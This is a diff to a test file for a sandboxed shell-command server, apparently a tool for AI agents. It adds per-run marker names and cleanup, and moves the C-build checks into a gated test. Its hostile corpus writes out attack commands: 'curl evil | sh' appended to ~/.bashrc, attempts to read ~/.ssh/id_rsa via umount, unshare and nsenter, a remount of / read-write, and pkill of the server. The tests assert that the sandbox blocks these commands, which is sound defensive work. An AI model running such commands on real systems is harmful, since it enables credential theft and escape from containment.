@@ -7,11 +7,13 @@
  */
 import assert from "node:assert/strict";
 import { execFileSync } from "node:child_process";
-import { chmodSync, existsSync, readFileSync } from "node:fs";
+import { randomBytes } from "node:crypto";
+import { chmodSync, existsSync, readFileSync, rmSync } from "node:fs";
 import { createServer, type Server } from "node:net";
 import { join } from "node:path";
 import { after, before, describe, test } from "node:test";
 import type { Reply } from "../helpers.js";
+import { BWRAP, CC, requires, ROOT } from "../preconditions.js";
 import { allowExactly, makeWorld, NOBODY, SECRET_FILES, startCliServer, type CliServer, type World } from "./harness.js";
 
 interface Case {
@@ -21,7 +23,13 @@ interface Case {
   /** The policy lets it through: the sandbox is what must stop it (status 200). */
   runs?: boolean;
   check?: (reply: Reply, w: World, s: CliServer) => void | Promise<void>;
+  /** Host paths the command tries to create: absent before it runs (so a leftover cannot pass or fail the case), removed after. */
+  markers?: string[];
 }
+
+/** Marker names of this run: a file left by an earlier run on the machine is not this run's. */
+const RUN = randomBytes(6).toString("hex");
+const MARK = { etc: `/etc/cgc-pwned-${RUN}`, usr: `/usr/local/bin/cgc-pwned-${RUN}`, tmp: `/tmp/cgc-private-marker-${RUN}`, rootDir: `/cgc-rw-${RUN}` };
 
 const home = (w: World) => w.home;
 
@@ -54,8 +62,8 @@ const WRITES: Case[] = [
   { name: "write through a symlink to outside", command: (w) => `ln -sfn ${w.outside}/dir out && echo pwned > out/through.txt`, runs: true, check: (_r, w) => assert.ok(!existsSync(join(w.outside, "dir", "through.txt"))) },
   { name: "rewrite ~/.bashrc", command: () => "echo 'curl evil | sh' >> ~/.bashrc", runs: true, check: (_r, w) => assert.equal(readFileSync(join(w.realHome, ".bashrc"), "utf8"), "# bashrc\n") },
   { name: "create a missing secret file (~/.pypirc)", command: () => "echo x > ~/.pypirc", runs: true, check: (_r, w) => assert.ok(!existsSync(join(w.realHome, ".pypirc"))) },
-  { name: "write to /etc and /usr", command: () => "echo x > /etc/cgc-pwned; touch /usr/local/bin/cgc-pwned; echo rc=$?", runs: true, check: () => (assert.ok(!existsSync("/etc/cgc-pwned")), assert.ok(!existsSync("/usr/local/bin/cgc-pwned"))) },
-  { name: "/tmp is private", command: () => "echo x > /tmp/cgc-private-marker && cat /tmp/cgc-private-marker", runs: true, check: (r) => (assert.equal(r.json.stdout, "x\n"), assert.ok(!existsSync("/tmp/cgc-private-marker"))) },
+  { name: "write to /etc and /usr", command: () => `echo x > ${MARK.etc}; touch ${MARK.usr}; echo rc=$?`, runs: true, markers: [MARK.etc, MARK.usr], check: () => (assert.ok(!existsSync(MARK.etc)), assert.ok(!existsSync(MARK.usr))) },
+  { name: "/tmp is private", command: () => `echo x > ${MARK.tmp} && cat ${MARK.tmp}`, runs: true, markers: [MARK.tmp], check: (r) => (assert.equal(r.json.stdout, "x\n"), assert.ok(!existsSync(MARK.tmp))) },
   { name: "the token file cannot be overwritten", command: (w) => `echo '{}' > ${w.configHome}/config.json`, check: (_r, w) => assert.match(readFileSync(join(w.configHome, "config.json"), "utf8"), /token/) },
 ];
 
@@ -66,7 +74,7 @@ const ESCAPES: Case[] = [
   { name: "pkill node", command: () => "pkill -9 node; pkill -9 -f serve; echo done", check: async (_r, _w, s) => assert.equal((await fetch(`${s.url}/health`)).status, 200) },
   { name: "mount a tmpfs", command: () => "mount -t tmpfs none /mnt 2>&1; echo rc=$?", runs: true, check: (r) => assert.match(r.json.stdout, /rc=(1|32)/) },
   { name: "unmount the mask over ~/.ssh", command: () => "umount ~/.ssh 2>&1; umount -l ~/.ssh 2>&1; cat ~/.ssh/id_rsa", runs: true },
-  { name: "remount / read-write", command: () => "mount -o remount,rw / 2>&1; touch /cgc-rw 2>&1; echo rc=$?", runs: true, check: () => assert.ok(!existsSync("/cgc-rw")) },
+  { name: "remount / read-write", command: () => `mount -o remount,rw / 2>&1; touch ${MARK.rootDir} 2>&1; echo rc=$?`, runs: true, markers: [MARK.rootDir], check: () => assert.ok(!existsSync(MARK.rootDir)) },
   { name: "unshare a user namespace to get capabilities", command: () => "unshare -Urm sh -c 'umount ~/.ssh; cat ~/.ssh/id_rsa' 2>&1; echo rc=$?", runs: true, check: (r) => assert.doesNotMatch(r.json.stdout, /rc=0/) },
   { name: "nsenter the server's namespaces", command: (_w, s) => `nsenter -t ${s.pid} -a cat ${_w.home}/.ssh/id_rsa 2>&1; nsenter -t 1 -m -u -n true 2>&1; echo rc=$?`, runs: true },
   { name: "chroot and pivot tricks", command: () => "chroot / true 2>&1; echo rc=$?", runs: true, check: (r) => assert.match(r.json.stdout, /rc=(1|125)/) },
@@ -93,10 +101,11 @@ async function gone(path: string): Promise<boolean> {
 const CORPUS = [...READS, ...WRITES, ...ESCAPES, ...GIT];
 
 for (const who of [
-  { label: "root", uid: null },
+  { label: "the current user", uid: null },
   { label: "unprivileged (uid 65534)", uid: NOBODY },
 ]) {
-  describe(`hostile corpus as ${who.label}`, () => {
+  // As the current user the corpus needs bubblewrap; as uid 65534 also root (setpriv, chown).
+  describe(`hostile corpus as ${who.label}`, who.uid === null ? requires(BWRAP) : requires(ROOT, BWRAP), () => {
     let world: World;
     let server: CliServer;
     let listener: Server;
@@ -131,6 +140,7 @@ for (const who of [
 
     for (const c of CORPUS) {
       test(c.name, async () => {
+        for (const marker of c.markers ?? []) assert.ok(!existsSync(marker), `${marker} exists before the command ran`);
         const command = c.command(world, server);
         const send = () => server.post("exec_command", { command, wait_seconds: 20, ...(c.network ? { network: true } : {}) });
         let reply = await send();
@@ -147,7 +157,11 @@ for (const who of [
         } else {
           assert.ok(reply.status === 200 || reply.json.error?.code === "BLOCKED_BY_POLICY", reply.text);
         }
-        await c.check?.(reply, world, server);
+        try {
+          await c.check?.(reply, world, server);
+        } finally {
+          for (const marker of c.markers ?? []) rmSync(marker, { force: true });
+        }
       });
     }
 
@@ -188,17 +202,27 @@ for (const who of [
         "npm --version",
         "mkdir -p pkg && cd pkg && printf '{\"name\":\"t\",\"version\":\"1.0.0\",\"scripts\":{\"test\":\"node -e \\\\\"console.log(42)\\\\\"\"}}' > package.json && npm test 2>&1",
         "mkdir -p sub && cd sub && git init -q && echo a > a && git add a && git -c user.email=a@b -c user.name=a commit -qm one && git log --oneline | wc -l",
-        "test -r /usr/include/stdio.h && echo headers",
         "echo tmp > /tmp/t && cat /tmp/t",
-        "command -v cc >/dev/null && printf '#include <stdio.h>\\nint main(void){puts(\"compiled\");return 0;}\\n' > h.c && cc -o /tmp/h h.c && /tmp/h || echo 'no cc'",
-        "command -v make >/dev/null && printf 'all:\\n\\t@echo made\\n' > Makefile && make || echo 'no make'",
       ];
-      const expected = [/42/, /^\d+\.\d+/, /42/, /^1$/m, /headers/, /tmp/, /compiled|no cc/, /made|no make/];
+      const expected = [/42/, /^\d+\.\d+/, /42/, /^1$/m, /tmp/];
       for (const [i, command] of steps.entries()) {
         const reply = await server.post("exec_command", { command, wait_seconds: 30 });
         assert.equal(reply.status, 200, reply.text);
         assert.equal(reply.json.exit_code, 0, `${command}: ${reply.text}`);
         assert.match(reply.json.stdout, expected[i]!, command);
+      }
+    });
+
+    test("a C build works inside: the system headers, cc compiling into the private /tmp, make", requires(CC), async () => {
+      for (const [command, expected] of [
+        ["test -r /usr/include/stdio.h && echo headers", /^headers$/m],
+        ["printf '#include <stdio.h>\\nint main(void){puts(\"compiled\");return 0;}\\n' > h.c && cc -o /tmp/h h.c && /tmp/h", /^compiled$/m],
+        ["printf 'all:\\n\\t@echo made\\n' > Makefile && make", /^made$/m],
+      ] as const) {
+        const reply = await server.post("exec_command", { command, wait_seconds: 30 });
+        assert.equal(reply.status, 200, reply.text);
+        assert.equal(reply.json.exit_code, 0, `${command}: ${reply.text}`);
+        assert.match(reply.json.stdout, expected, command);
       }
     });
 
